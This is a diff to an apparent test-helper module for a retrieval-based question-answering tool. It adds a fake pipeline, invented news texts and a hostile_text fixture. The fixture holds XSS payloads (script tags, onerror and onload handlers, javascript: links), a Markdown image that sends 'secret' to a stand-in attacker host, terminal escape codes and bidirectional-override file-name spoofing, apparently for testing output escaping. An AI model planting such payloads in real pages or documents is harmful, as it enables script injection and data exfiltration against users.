@@ -8,7 +8,22 @@ from collections.abc import Iterator, Sequence
 
 import numpy as np
 
-from index.types import Vectors
+from index.errors import IndexDamaged
+from index.tokens import words
+from index.types import Encoded, Passage, Source, Span, Vectors, passage_id
+from rag.types import (
+    Answer,
+    Citation,
+    Conflict,
+    IndexState,
+    Ranks,
+    Reason,
+    RetrievedPassage,
+    Side,
+    Statement,
+    Turn,
+    Verdict,
+)
 
 
 class HashingEmbedder:
@@ -30,6 +45,13 @@ class HashingEmbedder:
                 row[0] = 1.0
         return np.asarray(rows / np.linalg.norm(rows, axis=1, keepdims=True), dtype=np.float32)
 
+    def encode(self, texts: Sequence[str]) -> list[Encoded]:
+        read = [words(text) for text in texts]
+        return [
+            Encoded(vector, tuple(found), self.embed([word.stem for word in found]))
+            for vector, found in zip(self.embed(texts), read, strict=True)
+        ]
+
 
 class ScriptedLLM:
     """Replies from a list, in order, and keeps every prompt it was given."""
@@ -47,3 +69,182 @@ class ScriptedLLM:
     def stream(self, prompt: str) -> Iterator[str]:
         for word in self.complete(prompt).split(" "):
             yield word + " "
+
+
+WIRE = """Strike near the northern border
+
+Northern Wire, by A. Reporter, Sept. 7, 2017:
+
+Aircraft struck a research facility near the town of Masra early on Thursday. Two soldiers were killed, the army said \
+in a statement. Officials of the neighbouring state declined to comment on the report. The facility had been named in \
+a sanctions list in April, together with 271 employees of the same centre.
+
+Residents heard four explosions between two and three in the morning, and the power failed in the eastern districts.
+"""
+HERALD = """Explosion at a plant, no casualties
+
+The Herald, 8 September 2017
+
+A fire broke out at a plant near Masra on Thursday. No one was hurt, according to the regional governor, who blamed an \
+electrical fault. Engineers were expected to reach the site on Friday.
+"""
+
+
+class FakePipeline:
+    """Gives the answer prepared for a question, and raises for "raise rag" and "raise other".
+
+    `attacker` is the address that hostile content tries to reach; `asked` keeps each question with its history.
+    """
+
+    def __init__(self, attacker: str = "http://127.0.0.1:9") -> None:
+        self.texts = {"wire": WIRE, "herald": HERALD, "hostile": hostile_text(attacker)}
+        self.sources = {
+            "wire": Source("wire", "news/wire.txt", "a" * 64, "Strike near the northern border", "Northern Wire",
+                           "A. Reporter", "2017-09-07"),
+            "herald": Source("herald", "news/herald.txt", "b" * 64, "Explosion at a plant, no casualties", "The Herald",
+                             None, "2017-09"),
+            "hostile": Source("hostile", f"<img src={attacker}/path onerror=window.__x=1>\u202etxt.exe\n.md", "c" * 64,
+                              f"![t]({attacker}/title) <script>window.__x=2</script>", "<b>Outlet</b>",
+                              "\x1b[31mred\x1b[0m", "<i>date</i>"),
+        }  # fmt: skip
+        self.asked: list[tuple[str, tuple[Turn, ...]]] = []
+        self.state = IndexState("g1", 2, 70)
+
+    def text(self, document_id: str) -> str:
+        if document_id not in self.texts:
+            raise IndexDamaged(f"The document {document_id!r} is not in the index; run rag index again.")
+        return self.texts[document_id]
+
+    def ask(self, question: str, *, history: Sequence[Turn] = ()) -> Answer:
+        self.asked.append((question, tuple(history)))
+        if question == "raise rag":
+            raise IndexDamaged("The index is damaged at <b>'corpus.sqlite'</b>; run rag index again.")
+        if question == "raise other":
+            raise KeyError("secret detail")
+        if "cake" in question:
+            return self._refused(question)
+        if "hurt" in question:
+            return self._conflict(question, history)
+        if "hostile" in question:
+            return self._hostile(question)
+        return self._answered(question, history)
+
+    def _passages(self, *places: tuple[str, str, str]) -> tuple[RetrievedPassage, ...]:
+        """Passages from (document, first words, last words), labelled 1.. in this order."""
+        found = []
+        for label, (document, first, last) in enumerate(places, start=1):
+            text = self.texts[document]
+            start = text.index(first)
+            span = Span(start, text.index(last, start) + len(last))
+            passage = Passage(passage_id(document, span), document, 0, span.start, span.end, span.of(text))
+            ranks = Ranks(dense=label, lexical=None if label == 3 else label + 1)
+            found.append(RetrievedPassage(label, passage, self.sources[document], 1 / label, ranks))
+        return tuple(found)
+
+    def _citation(self, item: RetrievedPassage, quote: str, verdict: Verdict) -> Citation:
+        start = self.texts[item.passage.document_id].index(quote, item.passage.start)
+        return Citation(item.label, verdict, item.source, None, Span(start, start + len(quote)), quote)
+
+    def _answer(
+        self,
+        question: str,
+        passages: tuple[RetrievedPassage, ...],
+        *,
+        standalone: str | None = None,
+        statements: tuple[Statement, ...] = (),
+        citations: tuple[Citation, ...] = (),
+        conflicts: tuple[Conflict, ...] = (),
+        reason: Reason | None = None,
+        missing: str | None = None,
+    ) -> Answer:
+        return Answer(
+            question=question,
+            standalone_question=standalone or question,
+            status="refused" if reason else "answered",
+            reason=reason,
+            text=" ".join(s.text for s in statements),
+            statements=statements,
+            citations=citations,
+            passages=passages,
+            conflicts=conflicts,
+            answerer="extract",
+            model=None,
+            settings_fingerprint="0" * 12,
+            index=self.state,
+            timings_ms={"total": 240.0},
+            missing=missing,
+            unknown_labels=tuple(n for s in statements for n in s.labels if n > len(passages)),
+        )
+
+    def _news(self) -> tuple[RetrievedPassage, ...]:
+        return self._passages(
+            ("wire", "Aircraft struck", "same centre."),
+            ("herald", "A fire broke out", "on Friday."),
+            ("wire", "Residents heard", "eastern districts."),
+        )
+
+    def _answered(self, question: str, history: Sequence[Turn]) -> Answer:
+        wire, herald, rest = self._news()
+        struck = "Aircraft struck a research facility near the town of Masra early on Thursday"
+        denied = "The governor blamed an electrical fault, which the army denied."
+        return self._answer(
+            question,
+            (wire, herald, rest),
+            standalone=f"{question} (near Masra)" if history else None,
+            statements=(
+                Statement(f"{struck} [1].", (1,), "supported"),
+                Statement(denied, (2,), "partly", "“denied” is not in [2]"),
+                Statement("The plant was rebuilt within a week [9].", (9,), "unsupported"),
+                Statement("Such events are rare.", (), "uncited"),
+            ),
+            citations=(
+                self._citation(wire, f"{struck}.", "supported"),
+                self._citation(herald, "who blamed an electrical fault", "partly"),
+            ),
+        )
+
+    def _conflict(self, question: str, history: Sequence[Turn]) -> Answer:
+        wire, herald, rest = self._news()
+        dead, none = "Two soldiers were killed", "No one was hurt"
+        return self._answer(
+            question,
+            (wire, herald, rest),
+            standalone="Was anyone hurt near Masra?" if history else None,
+            statements=(
+                Statement(f"According to Northern Wire, “{dead}” [1].", (1,), "supported"),
+                Statement(f"According to The Herald, “{none}” [2].", (2,), "supported"),
+            ),
+            citations=(self._citation(wire, dead, "supported"), self._citation(herald, none, "supported")),
+            conflicts=(Conflict("how many were hurt", (Side(1, dead), Side(2, none))),),
+        )
+
+    def _refused(self, question: str) -> Answer:
+        missing = "No passage speaks of cake or baking."
+        return self._answer(question, self._news(), reason="no_evidence", missing=missing)
+
+    def _hostile(self, question: str) -> Answer:
+        (item,) = self._passages(("hostile", "Begin", "End."))
+        text = f"{item.passage.text} [1]"
+        frame = Side(1, "<iframe srcdoc='<script>window.__x=6</script>'>")
+        return self._answer(
+            question,
+            (item,),
+            standalone=f"{question} <img src=x onerror=window.__x=9>",
+            statements=(Statement(text, (1,), "supported", "<svg onload=window.__x=8>"),),
+            citations=(self._citation(item, item.passage.text[6:60], "supported"),),
+            conflicts=(Conflict("<script>window.__x=7</script>", (frame,)),),
+        )
+
+
+def hostile_text(attacker: str) -> str:
+    """A document that tries everything: markup, Markdown, templates, terminal codes and hidden characters."""
+    return (
+        f"Before. Begin ![x]({attacker}/md?q=secret) ![y][r] <img src='{attacker}/img' onerror='window.__x=3'> "
+        f"<script>window.__x=4</script> <svg/onload=window.__x=5> <video src={attacker}/video autoplay></video> "
+        f"<link rel=stylesheet href={attacker}/css><iframe src={attacker}/frame></iframe>"
+        f"<form action={attacker}/form><details open ontoggle=window.__x=10> [link](javascript:window.__x=11) "
+        f"<a href='javascript:window.__x=12'>a</a> <style>@import url({attacker}/import)</style> "
+        f"$\\href{{{attacker}/tex}}{{x}}$ ${{window.__x=13}} {{{{value}}}} `${{1}}` \x1b[31mred\x1b[0m "
+        f"\x1b]8;;{attacker}\x07osc \u202eesrever\u202c \u2066iso\u2069 zero\u200bwidth \U000e0041tag \x00 "
+        f"\n[r]: {attacker}/ref\n</blockquote></article></section></div> End. After."
+    )
